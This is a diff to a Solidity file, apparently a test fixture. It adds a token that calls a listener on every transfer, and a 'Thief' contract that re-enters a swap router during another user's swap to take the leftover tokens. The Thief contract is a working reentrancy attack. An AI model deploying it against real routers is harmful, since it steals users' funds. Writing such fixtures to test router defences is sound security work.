@@ -3,6 +3,15 @@ pragma solidity 0.8.37;
 
 import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
 
+interface IRouter {
+    function EXECUTOR() external view returns (address);
+    function swap(address exchange, ERC20 token, uint256 amount, bytes calldata data) external;
+}
+
+interface IListener {
+    function onTransfer(address from) external;
+}
+
 // #region second
 /// An honest exchange whose shares are a token: target of swaps, and target of allowances.
 contract Pair is ERC20 {
@@ -14,6 +23,42 @@ contract Pair is ERC20 {
     function sell(ERC20 token, uint256 amount, address to) external {
         token.transferFrom(msg.sender, address(this), amount);
         _mint(to, amount);
+    }
+}
+
+/// A token that calls a listener after each transfer.
+contract Hooked is ERC20 {
+    IListener private listener;
+
+    constructor(address holder) ERC20("Hooked", "HOOK") {
+        _mint(holder, 1000);
+    }
+
+    function listen(IListener by) external {
+        listener = by;
+    }
+
+    function _update(address from, address to, uint256 value) internal override {
+        super._update(from, to, value);
+        if (address(listener) != address(0)) listener.onTransfer(from);
+    }
+}
+
+/// Enters the router while somebody else's swap is running, to receive what that swap has left.
+contract Thief {
+    IRouter private immutable ROUTER;
+    Pair private immutable PAIR;
+    bool private isInside;
+
+    constructor(IRouter router, Pair pair) {
+        (ROUTER, PAIR) = (router, pair);
+    }
+
+    function onTransfer(address from) external {
+        if (isInside || from != ROUTER.EXECUTOR()) return;
+        isInside = true;
+        ERC20 token = ERC20(msg.sender);
+        try ROUTER.swap(address(PAIR), token, 0, abi.encodeCall(Pair.sell, (token, 0, address(this)))) {} catch {}
     }
 }
 // #endregion second
